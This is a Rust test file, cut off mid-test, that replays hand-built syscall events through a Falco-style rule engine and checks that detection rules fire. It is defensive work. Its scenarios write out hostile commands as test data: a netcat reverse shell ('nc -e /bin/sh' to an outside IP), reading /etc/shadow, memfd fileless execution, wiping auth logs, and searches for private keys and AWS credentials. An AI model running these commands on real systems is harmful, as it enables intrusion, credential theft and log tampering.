//! End-to-end replay of hand-built syscall event sequences through [`SyscallPipeline`] with the bundled rules.
//!
//! Every event is built in the layout the live eBPF sensor writes (newest exit events, parameters filled as
//! `crates/mamoru-sensor/bpf/sensor.bpf.c` fills them: clone from both sides, execve with cgroups/env/tty/loginuid/
//! flags/trusted_exepath/filename, openat with its own path and flags, ...), so the state engine sees what it sees
//! live. Each attack scenario must fire exactly the rules named, with the output fields a Falco user would read; the
//! benign scenario must fire nothing.

use mamoru_cli::pipeline::SyscallPipeline;
use mamoru_cli::rulesets::Rulesets;
use mamoru_cli::synth::{self, code, realistic_workload, P};
use mamoru_engine::{Alert, EngineConfig, FieldJson, RuleMatching};
use mamoru_event::render::flags::{clone as cl, execve as exe_flag, mode, open as o};
use mamoru_event::{RawEvent, SockTuple, ThreadRecord, UserRecord};
use mamoru_rules::Priority;
use mamoru_scap::Record as ScapRecord;
use mamoru_state::{State, StateConfig};
use std::net::{IpAddr, Ipv4Addr};

// ------------------------------------------------------------------------------------------ event codes ----

/// Exit events the sensor emits that `synth::code` does not name.
const SOCKET_X: u16 = code::SOCKET_X;
const SYMLINKAT_X: u16 = 181;
const PTRACE_X: u16 = 169;
const FCHMODAT_X: u16 = 313;
const DUP2_X: u16 = 363;
const MEMFD_CREATE_X: u16 = 405;

const AT_FDCWD: i64 = -100;
const AF_INET: i64 = 2;
const AF_PACKET: i64 = 17;
const SOCK_STREAM: i64 = 1;
const SOCK_RAW: i64 = 3;
/// `htons(ETH_P_ALL)`, the protocol tcpdump-like tools pass to socket(AF_PACKET, ...).
const ETH_P_ALL_BE: i64 = 0x0300;
/// PPM ptrace request codes (`ptrace_request_to_scap`).
const PPM_PTRACE_ATTACH: i64 = 11;
const PPM_PTRACE_PEEKDATA: i64 = 3;
/// `/dev/pts/0` as the sensor encodes a tty (major 136, minor 0).
const TTY_PTS0: i64 = 34816;
/// glibc fork(): clone(CLONE_CHILD_CLEARTID | CLONE_CHILD_SETTID | SIGCHLD).
const FORK_FLAGS: u32 = cl::CLONE_CHILD_CLEARTID | cl::CLONE_CHILD_SETTID;

const T0: u64 = 1_700_000_000_000_000_000;

// ------------------------------------------------------------------------------------------- the cluster ----

/// A containerd (Kubernetes) container: 64-hex id, as cgroup v2 with the systemd driver names it.
const POD_CONTAINER_ID: &str = "057d718ce24aafc1f15d518fe5a795554db865f7d9d3a7279748d1d86bfd2ad5";

fn pod_cgroup_path() -> String {
    format!(
        "/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod5f1d3c1e_8e2f_4b7a_9c1d_2a3b4c5d6e7f.slice/\
         cri-containerd-{POD_CONTAINER_ID}.scope"
    )
}

fn cgroups_for(path: &str) -> Vec<(Vec<u8>, Vec<u8>)> {
    ["cpuset", "cpu", "memory", "pids"]
        .iter()
        .map(|s| (s.as_bytes().to_vec(), path.as_bytes().to_vec()))
        .collect()
}

fn host_cgroups(unit: &str) -> Vec<(Vec<u8>, Vec<u8>)> {
    cgroups_for(unit)
}

/// A process alive when the replay starts (one thread).
#[allow(clippy::too_many_arguments)]
fn proc_record(
    pid: i64,
    ptid: i64,
    comm: &str,
    exe: &str,
    exepath: &str,
    args: &[&str],
    uid: u32,
    cgroups: Vec<(Vec<u8>, Vec<u8>)>,
) -> ThreadRecord {
    ThreadRecord {
        tid: pid,
        pid,
        ptid,
        sid: pid,
        vpgid: pid,
        pgid: pid,
        comm: comm.into(),
        exe: exe.into(),
        exepath: exepath.into(),
        args: args.iter().map(|a| a.as_bytes().to_vec()).collect(),
        cwd: b"/".to_vec(),
        fdlimit: 1_048_576,
        uid,
        gid: uid,
        loginuid: u32::MAX,
        vtid: pid,
        vpid: pid,
        cgroups,
        clone_ts: T0 - 3_600_000_000_000,
        ..ThreadRecord::default()
    }
}

/// The node: systemd, sshd with alice's login shell, a web server, containerd with a shim and a pod whose
/// application (a node.js server) has an interactive sh (started by a previous `kubectl exec`).
fn node_processes() -> Vec<ThreadRecord> {
    let sys = |unit: &str| host_cgroups(&format!("/system.slice/{unit}"));
    let session = host_cgroups("/user.slice/user-1000.slice/session-4.scope");
    let pod = cgroups_for(&pod_cgroup_path());
    let mut alice_bash = proc_record(1610, 1600, "bash", "-bash", "/usr/bin/bash", &[], 1000, session.clone());
    alice_bash.loginuid = 1000;
    alice_bash.tty = TTY_PTS0 as u32;
    alice_bash.cwd = b"/home/alice".to_vec();
    let mut root_bash = proc_record(1650, 1640, "bash", "bash", "/usr/bin/bash", &[], 0, session.clone());
    root_bash.loginuid = 1000;
    root_bash.tty = TTY_PTS0 as u32 + 1;
    root_bash.cwd = b"/root".to_vec();
    let mut sudo = proc_record(1640, 1610, "sudo", "sudo", "/usr/bin/sudo", &["-i"], 0, session.clone());
    sudo.loginuid = 1000;
    sudo.tty = TTY_PTS0 as u32 + 1;
    let in_pod = |pid: i64, vpid: i64, ptid: i64, comm: &str, exe: &str, exepath: &str, args: &[&str]| {
        let mut t = proc_record(pid, ptid, comm, exe, exepath, args, 0, pod.clone());
        t.vtid = vpid;
        t.vpid = vpid;
        t.flags = cl::CHILD_IN_PIDNS;
        t.cwd = b"/app".to_vec();
        t
    };
    vec![
        proc_record(
            1,
            0,
            "systemd",
            "/sbin/init",
            "/usr/lib/systemd/systemd",
            &["splash"],
            0,
            host_cgroups("/init.scope"),
        ),
        proc_record(
            540,
            1,
            "sshd",
            "sshd:",
            "/usr/sbin/sshd",
            &["/usr/sbin/sshd", "-D"],
            0,
            sys("ssh.service"),
        ),
        proc_record(
            1600,
            540,
            "sshd",
            "sshd:",
            "/usr/sbin/sshd",
            &["alice@pts/0"],
            1000,
            session.clone(),
        ),
        alice_bash,
        sudo,
        root_bash,
        proc_record(
            612,
            1,
            "nginx",
            "nginx:",
            "/usr/sbin/nginx",
            &["master", "process", "/usr/sbin/nginx"],
            0,
            sys("nginx.service"),
        ),
        proc_record(
            613,
            612,
            "nginx",
            "nginx:",
            "/usr/sbin/nginx",
            &["worker", "process"],
            33,
            sys("nginx.service"),
        ),
        proc_record(
            880,
            1,
            "containerd",
            "/usr/bin/containerd",
            "/usr/bin/containerd",
            &[],
            0,
            sys("containerd.service"),
        ),
        proc_record(
            2100,
            1,
            "containerd-shim",
            "/usr/bin/containerd-shim-runc-v2",
            "/usr/bin/containerd-shim-runc-v2",
            &[
                "-namespace",
                "k8s.io",
                "-id",
                POD_CONTAINER_ID,
                "-address",
                "/run/containerd/containerd.sock",
            ],
            0,
            sys("containerd.service"),
        ),
        proc_record(
            2150,
            2100,
            "runc",
            "runc",
            "/usr/bin/runc",
            &[
                "--root",
                "/run/containerd/runc/k8s.io",
                "exec",
                "--process",
                "/tmp/runc-process",
                "-t",
            ],
            0,
            sys("containerd.service"),
        ),
        in_pod(4100, 1, 2100, "node", "node", "/usr/local/bin/node", &["server.js"]),
        in_pod(4200, 37, 4100, "sh", "/bin/sh", "/bin/dash", &["-c", "sh"]),
    ]
}

fn node_users() -> Vec<UserRecord> {
    let user = |uid: u32, name: &str, home: &str, shell: &str| UserRecord {
        uid,
        gid: uid,
        name: name.into(),
        home: home.into(),
        shell: shell.into(),
        container_id: Vec::new(),
    };
    vec![
        user(0, "root", "/root", "/bin/bash"),
        user(33, "www-data", "/var/www", "/usr/sbin/nologin"),
        user(1000, "alice", "/home/alice", "/bin/bash"),
    ]
}

// ---------------------------------------------------------------------------------------------- replayer ----

/// The pipeline with the bundled rules, a clock, and every alert produced so far.
struct Replay {
    pipeline: SyscallPipeline,
    ts: u64,
    alerts: Vec<Alert>,
}

/// A program image for [`Replay::spawn`] / [`Replay::exec`].
#[derive(Clone)]
struct Image<'a> {
    /// argv[0] (`proc.exe`).
    argv0: &'a str,
    args: &'a [&'a str],
    /// The resolved executable (`trusted_exepath`, `proc.exepath`).
    path: &'a str,
    /// The path given to execve (`filename`).
    filename: &'a str,
    /// `PPM_EXE_*` flags.
    flags: u32,
    /// Effective uid after exec (setuid binaries change it); `None` keeps the caller's.
    uid: Option<u32>,
}

impl<'a> Image<'a> {
    fn new(argv0: &'a str, args: &'a [&'a str], path: &'a str) -> Self {
        Image {
            argv0,
            args,
            path,
            filename: path,
            flags: exe_flag::EXE_LOWER_LAYER,
            uid: None,
        }
    }
    fn on_host(mut self) -> Self {
        self.flags = 0;
        self
    }
    fn flags(mut self, flags: u32) -> Self {
        self.flags = flags;
        self
    }
    fn uid(mut self, uid: u32) -> Self {
        self.uid = Some(uid);
        self
    }
    fn filename(mut self, f: &'a str) -> Self {
        self.filename = f;
        self
    }
    /// task->comm after exec: the basename of the file name, at most 15 bytes.
    fn comm(&self) -> String {
        let base = self.filename.rsplit('/').next().unwrap_or(self.filename);
        base.chars().take(15).collect()
    }
}

fn cgroup_params(t: &[(Vec<u8>, Vec<u8>)]) -> Vec<String> {
    t.iter()
        .map(|(s, p)| format!("{}={}", String::from_utf8_lossy(s), String::from_utf8_lossy(p)))
        .collect()
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

impl Replay {
    fn new(matching: RuleMatching) -> Replay {
        Replay::with_rules(&[], matching)
    }

    /// Rules from `files` (the bundled rules when empty).
    fn with_rules(files: &[std::path::PathBuf], matching: RuleMatching) -> Replay {
        let sets = Rulesets::load(
            files,
            &EngineConfig {
                rule_matching: matching,
                min_priority: Priority::Debug,
            },
        );
        assert!(!sets.has_errors(), "bundled rules must compile: {:?}", sets.diagnostics);
        let mut pipeline = SyscallPipeline::new(State::new(StateConfig::default()), sets.syscall);
        pipeline.state.set_hostname("node-1");
        Replay {
            pipeline,
            ts: T0,
            alerts: Vec::new(),
        }
    }

    /// The node's processes and users, as a capture's process and user blocks deliver them.
    fn on_node(matching: RuleMatching) -> Replay {
        let mut r = Replay::new(matching);
        r.pipeline.on_state_record(ScapRecord::Threads(node_processes()));
        for u in node_users() {
            r.pipeline.state.add_user(u);
        }
        r
    }

    /// Feeds one event; returns the alerts it produced.
    fn send(&mut self, ev_code: u16, tid: i64, params: &[(&str, P<'_>)]) -> Vec<Alert> {
        self.ts += 1_000_000;
        let bytes = synth::event(ev_code, self.ts, tid, params);
        self.feed(&bytes)
    }

    fn feed(&mut self, bytes: &[u8]) -> Vec<Alert> {
        let raw = RawEvent::parse(bytes, 0).expect("synthetic event parses");
        let mut out = Vec::new();
        self.pipeline.on_event(&raw, |a| out.push(a));
        self.alerts.extend(out.iter().cloned());
        out
    }

    fn thread_field<T>(&self, tid: i64, f: impl FnOnce(&mamoru_state::Thread) -> T) -> T {
        f(self
            .pipeline
            .state
            .thread(tid)
            .unwrap_or_else(|| panic!("thread {tid} is known")))
    }

    /// fork() in `parent` creating `child`, both sides of the clone as the sensor reports them. `in_pidns` is set
    /// when the parent has joined (or lives in) a container's pid namespace; `vpid` is the child's pid there.
    fn fork(&mut self, parent: i64, child: i64, cgroups_of_child: Option<String>, vpid: Option<i64>) {
        let (p_exe, p_args, p_comm, p_cg, p_uid, p_gid, p_ptid, p_vpid, p_pid) = self.thread_field(parent, |t| {
            (
                text(&t.exe),
                t.args.iter().map(|a| text(a)).collect::<Vec<_>>(),
                text(&t.comm),
                cgroup_params(&t.cgroups),
                t.uid,
                t.gid,
                t.ptid,
                t.vpid,
                t.pid,
            )
        });
        let cwd = text(
            self.pipeline
                .state
                .cwd(self.pipeline.state.thread(p_pid).expect("parent known")),
        );
        let args: Vec<&str> = p_args.iter().map(String::as_str).collect();
        let parent_cg: Vec<&str> = p_cg.iter().map(String::as_str).collect();
        let child_cg_owned: Vec<String> = match &cgroups_of_child {
            Some(path) => ["cpuset", "cpu", "memory", "pids"]
                .iter()
                .map(|s| format!("{s}={path}"))
                .collect(),
            None => p_cg.clone(),
        };
        let child_cg: Vec<&str> = child_cg_owned.iter().map(String::as_str).collect();
        let pidns_flag = if vpid.is_some() { cl::CHILD_IN_PIDNS } else { 0 };
        // Parent side: res = child's tid, the caller's own identity.
        let parent_params = vec![
            ("res", P::Int(child)),
            ("exe", P::Str(&p_exe)),
            ("args", P::List(&args)),
            ("tid", P::Int(parent)),
            ("pid", P::Int(parent)),
            ("ptid", P::Int(p_ptid)),
            ("cwd", P::Str(&cwd)),
            ("fdlimit", P::Int(1_048_576)),
            ("comm", P::Str(&p_comm)),
            ("cgroups", P::List(&parent_cg)),
            ("flags", P::Int((FORK_FLAGS | pidns_flag) as i64)),
            ("uid", P::Int(p_uid as i64)),
            ("gid", P::Int(p_gid as i64)),
            ("vtid", P::Int(if p_vpid > 0 { p_vpid } else { parent })),
            ("vpid", P::Int(if p_vpid > 0 { p_vpid } else { parent })),
            ("pidns_init_start_ts", P::Int(0)),
        ];
        self.send(code::CLONE_20_X, parent, &parent_params);
        // Child side: res = 0, its own tid/pid, the parent as ptid.
        let v = vpid.unwrap_or(child);
        let child_params = vec![
            ("res", P::Int(0)),
            ("exe", P::Str(&p_exe)),
            ("args", P::List(&args)),
            ("tid", P::Int(child)),
            ("pid", P::Int(child)),
            ("ptid", P::Int(parent)),
            ("cwd", P::Str(&cwd)),
            ("fdlimit", P::Int(1_048_576)),
            ("comm", P::Str(&p_comm)),
            ("cgroups", P::List(&child_cg)),
            ("flags", P::Int((FORK_FLAGS | pidns_flag) as i64)),
            ("uid", P::Int(p_uid as i64)),
            ("gid", P::Int(p_gid as i64)),
            ("vtid", P::Int(v)),
            ("vpid", P::Int(v)),
            (
                "pidns_init_start_ts",
                P::Int(if vpid.is_some() { 1_000_000_000 } else { 0 }),
            ),
        ];
        self.send(code::CLONE_20_X, child, &child_params);
    }

    /// A successful execve in `tid`, as the sensor's three execve programs fill it.
    fn exec(&mut self, tid: i64, img: &Image<'_>, tty: i64) -> Vec<Alert> {
        let (ptid, uid, gid, loginuid, cg, cwd) = self.thread_field(tid, |t| {
            (
                t.ptid,
                t.uid,
                t.gid,
                t.loginuid,
                cgroup_params(&t.cgroups),
                self.pipeline.state.cwd(t).to_vec(),
            )
        });
        let cg: Vec<&str> = cg.iter().map(String::as_str).collect();
        let cwd = text(&cwd);
        let comm = img.comm();
        let uid = img.uid.unwrap_or(uid);
        let env = [
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            "LANG=C.UTF-8",
            "TERM=xterm",
        ];
        self.send(
            code::EXECVE_19_X,
            tid,
            &[
                ("res", P::Int(0)),
                ("exe", P::Str(img.argv0)),
                ("args", P::List(img.args)),
                ("tid", P::Int(tid)),
                ("pid", P::Int(tid)),
                ("ptid", P::Int(ptid)),
                ("cwd", P::Str(&cwd)),
                ("fdlimit", P::Int(1_048_576)),
                ("pgft_maj", P::Int(0)),
                ("pgft_min", P::Int(112)),
                ("vm_size", P::Int(8_420)),
                ("vm_rss", P::Int(3_100)),
                ("vm_swap", P::Int(0)),
                ("comm", P::Str(&comm)),
                ("cgroups", P::List(&cg)),
                ("env", P::List(&env)),
                ("tty", P::Int(tty)),
                ("vpgid", P::Int(tid)),
                ("loginuid", P::Int(loginuid as i64)),
                ("flags", P::Int(img.flags as i64)),
                ("cap_inheritable", P::Int(0)),
                ("cap_permitted", P::Int(if uid == 0 { 0x1ff_ffff_ffff } else { 0 })),
                ("cap_effective", P::Int(if uid == 0 { 0x1ff_ffff_ffff } else { 0 })),
                ("exe_ino", P::Int(1_312_410)),
                ("exe_ino_ctime", P::Int((T0 - 86_400_000_000_000) as i64)),
                ("exe_ino_mtime", P::Int((T0 - 86_400_000_000_000) as i64)),
                ("uid", P::Int(uid as i64)),
                ("trusted_exepath", P::Str(img.path)),
                ("pgid", P::Int(tid)),
                ("gid", P::Int(gid as i64)),
                ("filename", P::Str(img.filename)),
            ],
        )
    }

    /// fork + execve: the alerts of the whole sequence.
    fn spawn(&mut self, parent: i64, child: i64, img: &Image<'_>, tty: i64) -> Vec<Alert> {
        let before = self.alerts.len();
        self.fork(parent, child, None, None);
        self.exec(child, img, tty);
        self.alerts[before..].to_vec()
    }

    fn openat(&mut self, tid: i64, fd: i64, path: &str, flags: u32) -> Vec<Alert> {
        self.send(
            code::OPENAT_2_X,
            tid,
            &[
                ("fd", P::Int(fd)),
                ("dirfd", P::Int(AT_FDCWD)),
                ("name", P::Str(path)),
                ("flags", P::Int(flags as i64)),
                ("mode", P::Int(if flags & o::O_CREAT != 0 { 0o644 } else { 0 })),
                ("dev", P::Int(0x803)),
                ("ino", P::Int(262_401)),
            ],
        )
    }

    fn close(&mut self, tid: i64, fd: i64) -> Vec<Alert> {
        self.send(code::CLOSE_X, tid, &[("res", P::Int(0)), ("fd", P::Int(fd))])
    }

    fn exit(&mut self, tid: i64) -> Vec<Alert> {
        self.send(
            code::PROCEXIT_1_E,
            tid,
            &[
                ("status", P::Int(0)),
                ("ret", P::Int(0)),
                ("sig", P::Int(0)),
                ("core", P::Int(0)),
                ("reaper_tid", P::Int(1)),
            ],
        )
    }

    fn rules_fired(&self) -> Vec<String> {
        self.alerts.iter().map(|a| a.rule.to_string()).collect()
    }
}

// ------------------------------------------------------------------------------------------- assertions ----

fn s(v: &str) -> FieldJson {
    FieldJson::String(v.to_string())
}

fn field<'a>(a: &'a Alert, name: &str) -> &'a FieldJson {
    a.output_fields
        .iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v)
        .unwrap_or_else(|| panic!("rule '{}' has no output field {name}: {:?}", a.rule, a.output_fields))
}

/// Asserts the listed output fields of `a`.
fn assert_fields(a: &Alert, expected: &[(&str, FieldJson)]) {
    for (name, want) in expected {
        assert_eq!(field(a, name), want, "rule '{}', output field {name}", a.rule);
    }
}

/// Exactly one alert, of `rule`.
fn only<'a>(alerts: &'a [Alert], rule: &str) -> &'a Alert {
    let names: Vec<&str> = alerts.iter().map(|a| &*a.rule).collect();
    assert_eq!(names, vec![rule], "expected exactly one alert of '{rule}'");
    &alerts[0]
}

fn tuple(sip: [u8; 4], sport: u16, dip: [u8; 4], dport: u16) -> Vec<u8> {
    SockTuple::Inet {
        sip: IpAddr::V4(Ipv4Addr::from(sip)),
        sport,
        dip: IpAddr::V4(Ipv4Addr::from(dip)),
        dport,
    }
    .encode()
}

/// A PT_DYN ptrace argument holding a u64 (`PPM_PTRACE_IDX_UINT64`).
fn ptrace_u64(v: u64) -> Vec<u8> {
    let mut b = vec![0u8];
    b.extend_from_slice(&v.to_le_bytes());
    b
}

const SHORT_ID: &str = "057d718ce24a";

// ---------------------------------------------------------------------------------------------- stable ----

#[test]
fn terminal_shell_in_container_from_kubectl_exec() {
    let mut r = Replay::on_node(RuleMatching::All);
    // `kubectl exec -it web -- bash`: the shim's runc joins the pod's namespaces and cgroups, forks runc:[2:INIT]
    // inside the pod's pid namespace, which execs bash with the pod's terminal.
    r.fork(2150, 4300, Some(pod_cgroup_path()), Some(45));
    let alerts = r.exec(
        4300,
        &Image::new("bash", &[], "/usr/bin/bash").filename("/bin/bash"),
        TTY_PTS0,
    );
    let a = only(&alerts, "Terminal shell in container");
    assert_eq!(a.priority, Priority::Notice);
    assert_eq!(a.source, "syscall");
    assert_fields(
        a,
        &[
            ("evt.type", s("execve")),
            ("proc.name", s("bash")),
            ("proc.exepath", s("/usr/bin/bash")),
            ("proc.pname", s("runc")),
            ("proc.cmdline", s("bash")),
            ("proc.tty", FieldJson::U64(TTY_PTS0 as u64)),
            ("user.uid", FieldJson::U64(0)),
            ("user.loginuid", FieldJson::I64(-1)),
            ("evt.arg.flags", s("EXE_LOWER_LAYER")),
        ],
    );
    assert_eq!(
        r.thread_field(4300, |t| text(&t.container_id)),
        SHORT_ID,
        "container.id is the 12-char id"
    );
    assert!(a.tags.iter().any(|t| t == "maturity_stable"));
    assert_eq!(r.rules_fired(), vec!["Terminal shell in container"]);
}

#[test]
fn container_root_without_passwd_is_named_root_as_in_falco() {
    // libsinsp (sinsp_threadinfo::get_user) names uid 0 "root" when the container's passwd is unknown.
    let mut r = Replay::on_node(RuleMatching::All);
    r.fork(2150, 4300, Some(pod_cgroup_path()), Some(45));
    let alerts = r.exec(
        4300,
        &Image::new("bash", &[], "/usr/bin/bash").filename("/bin/bash"),
        TTY_PTS0,
    );
    let a = only(&alerts, "Terminal shell in container");
    assert_fields(a, &[("user.name", s("root"))]);
}

#[test]
fn container_user_without_passwd_is_na_text_as_in_falco() {
    // libsinsp names any other unknown uid "<NA>" (a value, so output_fields carry the text, not null).
    let mut r = Replay::on_node(RuleMatching::All);
    let img = Image::new("nc", &["-e", "/bin/sh", "203.0.113.9", "4444"], "/usr/bin/nc").uid(1001);
    let alerts = r.spawn(4200, 4311, &img, 0);
    let a = only(&alerts, "Netcat Remote Code Execution in Container");
    assert_fields(a, &[("user.uid", FieldJson::U64(1001)), ("user.name", s("<NA>"))]);
}

/// A container started with `ctr run -t` / `nerdctl run -it` (containerd's `default` namespace, cgroupfs layout
/// `/default/<id>`): a shell with a terminal is a terminal shell in a container, and the container is containerd's.
#[test]
fn terminal_shell_in_ctr_container_is_a_containerd_container() {
    const CTR_ID: &str = "fc1f7e986a0d209f4f89b2a9069b876049997c89dc560ac3d64fc55c3bbb2d32";
    let dir = tempfile::tempdir().expect("temp dir");
    let probe = dir.path().join("probe.yaml");
    std::fs::write(
        &probe,
        "- rule: Container of spawned process\n  desc: probe\n  condition: evt.type in (execve, execveat) and \
         container.id != host\n  output: id=%container.id type=%container.type\n  priority: INFO\n",
    )
    .expect("temp file writable");
    for files in [vec![], vec![probe]] {
        let mut r = Replay::with_rules(&files, RuleMatching::All);
        r.pipeline.on_state_record(ScapRecord::Threads(node_processes()));
        r.fork(2150, 4900, Some(format!("/default/{CTR_ID}")), Some(1));
        let alerts = r.exec(
            4900,
            &Image::new("sh", &[], "/bin/busybox").filename("/bin/sh"),
            TTY_PTS0,
        );
        if files.is_empty() {
            assert_fields(only(&alerts, "Terminal shell in container"), &[("proc.name", s("sh"))]);
        } else {
            let a = only(&alerts, "Container of spawned process");
            // libsinsp's containerd matcher (cgroup layout `/default/<id>`) reports these containers as containerd.
            assert_fields(
                a,
                &[("container.id", s(&CTR_ID[..12])), ("container.type", s("containerd"))],
            );
        }
    }
}

#[test]
fn read_sensitive_file_untrusted_on_host() {
    let mut r = Replay::on_node(RuleMatching::All);
    // alice runs `sudo cat /etc/shadow` in her ssh session: sudo (setuid root) forks cat.
    r.spawn(
        1610,
        5000,
        &Image::new("sudo", &["cat", "/etc/shadow"], "/usr/bin/sudo")
            .on_host()
            .uid(0),
        TTY_PTS0,
    );
    r.openat(5000, 3, "/etc/sudoers", o::O_RDONLY | o::O_CLOEXEC);
    r.close(5000, 3);
    let spawned = r.spawn(
        5000,
        5001,
        &Image::new("cat", &["/etc/shadow"], "/usr/bin/cat").on_host(),
        TTY_PTS0,
    );
    assert!(spawned.is_empty(), "sudo and cat starting fire nothing: {:?}", spawned);
    let alerts = r.openat(5001, 3, "/etc/shadow", o::O_RDONLY);
    let a = only(&alerts, "Read sensitive file untrusted");
    assert_eq!(a.priority, Priority::Warning);
    assert_fields(
        a,
        &[
            ("fd.name", s("/etc/shadow")),
            ("evt.type", s("openat")),
            ("proc.name", s("cat")),
            ("proc.cmdline", s("cat /etc/shadow")),
            ("proc.exepath", s("/usr/bin/cat")),
            ("proc.pname", s("sudo")),
            ("proc.aname[2]", s("bash")),
            ("proc.aname[3]", s("sshd")),
            ("user.name", s("root")),
            ("user.uid", FieldJson::U64(0)),
            ("user.loginuid", FieldJson::I64(1000)),
            ("proc.tty", FieldJson::U64(TTY_PTS0 as u64)),
        ],
    );
    assert!(a
        .message
        .starts_with("Sensitive file opened for reading by non-trusted program | file=/etc/shadow "));
    assert_eq!(
        r.rules_fired(),
        vec!["Read sensitive file untrusted"],
        "sudo reading /etc/sudoers is trusted"
    );
}

#[test]
fn run_shell_untrusted_below_web_server() {
    let mut r = Replay::on_node(RuleMatching::All);
    // A command injection in a CGI handler: the nginx worker (www-data) runs `sh -c id`.
    let alerts = r.spawn(
        613,
        6000,
        &Image::new("sh", &["-c", "id"], "/usr/bin/dash")
            .filename("/bin/sh")
            .on_host(),
        0,
    );
    let a = only(&alerts, "Run shell untrusted");
    assert_eq!(a.priority, Priority::Notice);
    assert_fields(
        a,
        &[
            ("evt.type", s("execve")),
            ("proc.name", s("sh")),
            ("proc.cmdline", s("sh -c id")),
            ("proc.exepath", s("/usr/bin/dash")),
            ("proc.pname", s("nginx")),
            ("proc.pexe", s("nginx:")),
            ("proc.pexepath", s("/usr/sbin/nginx")),
            ("proc.pcmdline", s("nginx worker process")),
            ("proc.aname[2]", s("nginx")),
            ("proc.aname[3]", s("systemd")),
            ("proc.aname[4]", FieldJson::Null),
            ("user.name", s("www-data")),
            ("user.uid", FieldJson::U64(33)),
            ("proc.tty", FieldJson::U64(0)),
        ],
    );
}

#[test]
fn create_symlink_over_sensitive_files() {
    let mut r = Replay::on_node(RuleMatching::All);
    r.spawn(
        1610,
        5100,
        &Image::new("ln", &["-s", "/etc/shadow", "/tmp/.s"], "/usr/bin/ln").on_host(),
        TTY_PTS0,
    );
    let alerts = r.send(
        SYMLINKAT_X,
        5100,
        &[
            ("res", P::Int(0)),
            ("target", P::Str("/etc/shadow")),
            ("linkdirfd", P::Int(AT_FDCWD)),
            ("linkpath", P::Str("/tmp/.s")),
        ],
    );
    let a = only(&alerts, "Create Symlink Over Sensitive Files");
    assert_fields(
        a,
        &[
            ("evt.arg.target", s("/etc/shadow")),
            ("evt.arg.linkpath", s("/tmp/.s")),
            ("evt.type", s("symlinkat")),
            ("proc.name", s("ln")),
            ("proc.cmdline", s("ln -s /etc/shadow /tmp/.s")),
            ("user.name", s("alice")),
        ],
    );
    assert_eq!(r.rules_fired(), vec!["Create Symlink Over Sensitive Files"]);
}

#[test]
fn fileless_execution_via_memfd_create() {
    let mut r = Replay::on_node(RuleMatching::All);
    // A python dropper writes an ELF into a memfd and fexecve()s it under a kernel-thread-like argv[0].
    r.spawn(
        1610,
        5200,
        &Image::new("python3", &["-c", "import os;..."], "/usr/bin/python3.11").on_host(),
        TTY_PTS0,
    );
    r.send(
        MEMFD_CREATE_X,
        5200,
        &[("fd", P::Int(3)), ("name", P::Str("x")), ("flags", P::Int(0))],
    );
    let img = Image::new("[kworker/0:2]", &[], "/memfd:x (deleted)")
        .filename("/proc/self/fd/3")
        .flags(exe_flag::EXE_FROM_MEMFD | exe_flag::EXE_WRITABLE);
    let alerts = r.exec(5200, &img, TTY_PTS0);
    let a = only(&alerts, "Fileless execution via memfd_create");
    assert_eq!(a.priority, Priority::Critical);
    assert_fields(
        a,
        &[
            ("evt.type", s("execve")),
            ("proc.name", s("3")),
            ("proc.exepath", s("/memfd:x (deleted)")),
            ("proc.cmdline", s("3")),
            ("proc.pname", s("bash")),
            ("evt.arg.flags", s("EXE_WRITABLE|EXE_FROM_MEMFD")),
            ("evt.res", s("SUCCESS")),
            ("user.name", s("alice")),
        ],
    );
    assert_eq!(r.rules_fired(), vec!["Fileless execution via memfd_create"]);
}

#[test]
fn ptrace_attached_to_process() {
    let mut r = Replay::on_node(RuleMatching::All);
    r.spawn(
        1650,
        5300,
        &Image::new("gdb", &["-p", "613"], "/usr/bin/gdb").on_host(),
        TTY_PTS0 + 1,
    );
    let ptrace = |req: i64| {
        vec![
            ("res", P::Int(0)),
            ("addr", P::Bytes(ptrace_u64(0))),
            ("data", P::Bytes(ptrace_u64(0))),
            ("request", P::Int(req)),
            ("pid", P::Int(613)),
        ]
    };
    let alerts = r.send(PTRACE_X, 5300, &ptrace(PPM_PTRACE_ATTACH));
    let a = only(&alerts, "PTRACE attached to process");
    assert_fields(
        a,
        &[
            ("evt.type", s("ptrace")),
            ("proc.name", s("gdb")),
            ("proc.cmdline", s("gdb -p 613")),
            ("proc.pcmdline", s("bash")),
            ("user.name", s("root")),
            ("user.loginuid", FieldJson::I64(1000)),
        ],
    );
    // Reading the tracee's memory afterwards is not an attach.
    assert!(r.send(PTRACE_X, 5300, &ptrace(PPM_PTRACE_PEEKDATA)).is_empty());
    assert_eq!(r.rules_fired(), vec!["PTRACE attached to process"]);
}

#[test]
fn clear_log_activities() {
    let mut r = Replay::on_node(RuleMatching::All);
    // `> /var/log/auth.log` in root's shell: bash opens the file itself with O_TRUNC.
    let alerts = r.openat(1650, 3, "/var/log/auth.log", o::O_WRONLY | o::O_CREAT | o::O_TRUNC);
    let a = only(&alerts, "Clear Log Activities");
    assert_fields(
        a,
        &[
            ("fd.name", s("/var/log/auth.log")),
            ("evt.type", s("openat")),
            ("proc.name", s("bash")),
            ("user.name", s("root")),
            ("proc.pname", s("sudo")),
        ],
    );
    // Appending to a log is ordinary.
    assert!(r
        .openat(1650, 4, "/var/log/syslog", o::O_WRONLY | o::O_APPEND)
        .is_empty());
}

#[test]
fn search_private_keys_or_passwords() {
    let mut r = Replay::on_node(RuleMatching::All);
    let alerts = r.spawn(
        1610,
        5400,
        &Image::new("grep", &["-rl", "BEGIN RSA PRIVATE", "/home"], "/usr/bin/grep").on_host(),
        TTY_PTS0,
    );
    let a = only(&alerts, "Search Private Keys or Passwords");
    assert_fields(
        a,
        &[
            ("evt.type", s("execve")),
            ("proc.name", s("grep")),
            ("proc.cmdline", s("grep -rl BEGIN RSA PRIVATE /home")),
            ("user.name", s("alice")),
            ("proc.tty", FieldJson::U64(TTY_PTS0 as u64)),
        ],
    );
}

#[test]
fn find_aws_credentials() {
    let mut r = Replay::on_node(RuleMatching::All);
    let alerts = r.spawn(
        1610,
        5500,
        &Image::new(
            "find",
            &["/", "-type", "f", "-path", "*/.aws/credentials"],
            "/usr/bin/find",
        )
        .on_host(),
        TTY_PTS0,
    );
    let a = only(&alerts, "Find AWS Credentials");
    assert_fields(
        a,
        &[
            ("proc.name", s("find")),
            ("proc.cmdline", s("find / -type f -path */.aws/credentials")),
            ("proc.cwd", s("/home/alice/")),
            ("user.loginname", s("alice")),
